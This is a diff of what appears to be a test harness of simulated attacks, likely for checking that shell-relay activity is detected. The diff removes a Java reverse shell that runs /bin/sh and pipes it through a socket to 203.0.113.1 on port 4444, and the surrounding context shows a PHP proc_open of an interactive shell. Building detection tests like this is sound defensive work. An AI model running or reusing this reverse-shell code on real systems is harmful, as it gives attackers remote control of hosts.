@@ -130,22 +130,6 @@ $p = proc_open(["/bin/sh", "-i"], [["pipe", "r"], ["pipe", "w"],
 	relayed process~php
 }
 
-attack java-pipes 'shell-relay tmp-exe' 'java: exec of sh'
-run-java-pipes()
-{
-	need java
-	hold 4444
-	script /tmp/X.java <<-'EOF'
-		class X { public static void main(String[] a) throws Exception {
-			Process p = Runtime.getRuntime().exec("/bin/sh");
-			java.net.Socket s = new java.net.Socket("203.0.113.1", 4444);
-			s.getInputStream().transferTo(p.getOutputStream());
-		} }
-	EOF
-	as www-data java -Xint /tmp/X.java
-	relayed process=java
-}
-
 attack go-relay 'renamed-exe shell-relay' 'a relay of its own, in /opt'
 run-go-relay()
 {
